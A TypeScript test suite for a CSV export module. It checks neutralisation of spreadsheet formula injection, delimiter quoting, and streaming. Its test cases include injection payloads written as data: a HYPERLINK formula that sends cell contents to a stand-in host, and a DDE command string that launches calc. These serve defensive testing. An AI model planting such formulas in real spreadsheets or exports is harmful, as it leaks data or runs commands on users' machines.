import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BYTE_ORDER_MARK, csvFile, csvRow, neutraliseCell } from './csv-export.ts';

const dangerous = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u;
const parse = (text: string, delimiter = ',') =>
	Papa.parse<string[]>(text.replace(/\r\n$/, ''), { delimiter, newline: '\r\n' }).data;

/** Texts that are likely to hit a rule: hostile beginnings, delimiters, quotes, line breaks, letters of any script. */
const hostileText = fc
	.array(
		fc.oneof(
			fc.constantFrom(
				'=',
				'+',
				'-',
				'@',
				'\t',
				'\r',
				'\n',
				'"',
				"'",
				',',
				';',
				'|',
				' ',
				'＝',
				'1',
				'0',
				'(',
			),
			fc.string({ unit: 'grapheme', maxLength: 4 }),
		),
		{ maxLength: 12 },
	)
	.map((parts) => parts.join(''));

describe('neutraliseCell', () => {
	it.each([
		['=HYPERLINK("http://example.com/?x="&A1,"Click")'],
		['+1+1'],
		['-2+3'],
		["@SUM(1+1)*cmd|' /C calc'!A0"],
		['\t=1+1'],
		['\r=1+1'],
		['\n=1+1'],
		[' =1+1'],
		['\ufeff=1+1'],
		['＝1+1'],
		['-'],
		['--'],
		['+'],
		['-cmd'],
		['+44 =1'],
		['-123456-7'],
		['+12345+6'],
	])('puts an apostrophe before %j', (text) => {
		expect(neutraliseCell(text)).toBe(`'${text}`);
	});

	it.each([
		['+44 7700 900123'],
		['+1 (212) 555-0187'],
		['+49.30.1234567'],
		['-12.50'],
		['-1'],
		['+7'],
		['-1,5'],
		['1e-7'],
		['Ana =)'],
		['a@example.com'],
		[''],
		['O’Brien, Siobhán'],
		["'s-Gravenhage"],
	])('leaves %j alone', (text) => {
		expect(neutraliseCell(text)).toBe(text);
	});

	it('leaves no text that a spreadsheet would run, save numbers and phone numbers', () => {
		fc.assert(
			fc.property(hostileText, (text) => {
				const cell = neutraliseCell(text);
				if (dangerous.test(cell)) expect(cell).toMatch(/^[+-]?[\d\s().,\-/eE+\u00a0\u202f]+$/u);
				expect(cell.endsWith(text)).toBe(true);
				expect(cell.length - text.length).toBeLessThanOrEqual(1);
			}),
			{ numRuns: 2_000 },
		);
	});
});

describe('csvRow', () => {
	it('reads back as it was written, under every delimiter', () => {
		const values = fc.array(hostileText, { minLength: 1, maxLength: 6 });
		fc.assert(
			fc.property(values, fc.constantFrom(',' as const, ';' as const, '\t' as const), (row, delimiter) => {
				const [read] = parse(csvRow(row, { delimiter }), delimiter);
				expect(read?.map((cell) => cell.toWellFormed())).toEqual(
					row.map((cell) => neutraliseCell(cell.toWellFormed().replaceAll('\0', ''))),
				);
			}),
			{ numRuns: 2_000 },
		);
	});

	it('keeps a negative number of the program a number', () => {
		expect(csvRow([-5, 12.5, 10n, true, null, undefined, new Date('2027-01-02T03:04:05Z')])).toBe(
			'-5,12.5,10,true,,,2027-01-02T03:04:05.000Z\r\n',
		);
	});

	it('quotes a cell that another delimiter would cut', () => {
		expect(csvRow(['a;=1+1', 'b'])).toBe('"a;=1+1",b\r\n');
	});

	it('does not write an empty line for one empty cell', () => {
		expect(csvRow([''])).toBe('""\r\n');
	});

	it('drops NUL and replaces lone surrogates, which no UTF-8 file can hold', () => {
		expect(csvRow(['a\0b', '\ud800'])).toBe('ab,\ufffd\r\n');
	});
});

describe('csvFile', () => {
	it('streams a long list in few pieces', async () => {
		const rows = Array.from({ length: 5_000 }, (_, index) => [index, `Guest ${index}`]);
		const pieces: string[] = [];
		for await (const piece of csvFile(['No', 'Name'], rows, { hasByteOrderMark: true })) pieces.push(piece);
		expect(pieces.length).toBeLessThan(10);
		expect(pieces[0]?.startsWith(`${BYTE_ORDER_MARK}No,Name\r\n0,Guest 0\r\n`)).toBe(true);
		expect(parse(pieces.join('')).length).toBe(5_001);
	});

	it('writes the header of an empty list', async () => {
		const pieces: string[] = [];
		for await (const piece of csvFile(['Name'], [])) pieces.push(piece);
		expect(pieces.join('')).toBe('Name\r\n');
	});
});
